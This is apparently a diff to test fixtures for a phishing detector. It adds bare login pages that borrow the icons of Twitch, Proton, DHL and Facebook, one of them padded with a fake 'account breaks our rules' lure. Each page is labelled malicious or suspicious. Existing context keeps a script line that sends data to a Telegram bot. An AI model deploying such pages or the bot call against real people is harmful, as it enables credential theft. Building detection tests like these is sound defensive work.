@@ -33,6 +33,20 @@ const rows: readonly Row[] = [
   ['Netflix', PLAIN, 'unknown age', 'expired', 'suspicious'],
 ]
 
+/** Nothing but its icon says whose log-in it plays. */
+const iconOf = (href: string, rel: string, beside = ''): string =>
+  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Login</title><link rel="${rel}" href="${href}"></head><body>${beside}<form action="/login" method="post"><input name="email" placeholder="E-mail"><input type="password" name="password" placeholder="Password"><button>Log in</button></form></body></html>`
+
+const HELP =
+  '<h1>Help centre</h1><p>Your account breaks our rules. Enter your details below, so that we can look at it again.</p>'
+
+const icons: readonly (readonly [brand: string, html: string])[] = [
+  ['Twitch', iconOf('https://passport.twitch.tv/favicon.ico', 'shortcut icon')],
+  ['Proton', iconOf('https://mail.protonmail.com/assets/apple-touch-icon.png', 'apple-touch-icon')],
+  ['DHL', iconOf('https://delivery.dhl.com/img/icon.svg', 'mask-icon')],
+  ['Facebook, below many words', iconOf('https://static.xx.fbcdn.net/rsrc.php/y.ico', 'icon', HELP.repeat(9))],
+]
+
 const BOT = "<script>fetch('https://api.telegram.org/bot123456789:AAHx/sendMessage')</script>"
 
 export const brandLogInSituations: readonly Situation[] = [
@@ -47,6 +61,16 @@ export const brandLogInSituations: readonly Situation[] = [
     signals: ['impersonated_brand'],
     ...beside,
   })),
+  ...icons.flatMap(([brand, html]) =>
+    (['3 days', 'unknown age'] as const).map(age => ({
+      of: `a log-in under the icon of ${brand}, on a name of ${age}`,
+      domain: PLAIN,
+      age_days: DAYS[age],
+      page: { html },
+      verdict: age === '3 days' ? ('malicious' as const) : ('suspicious' as const),
+      signals: ['impersonated_brand'],
+    })),
+  ),
   {
     of: 'a log-in of PayPal that a script sends to a bot, on an old name',
     domain: PLAIN,
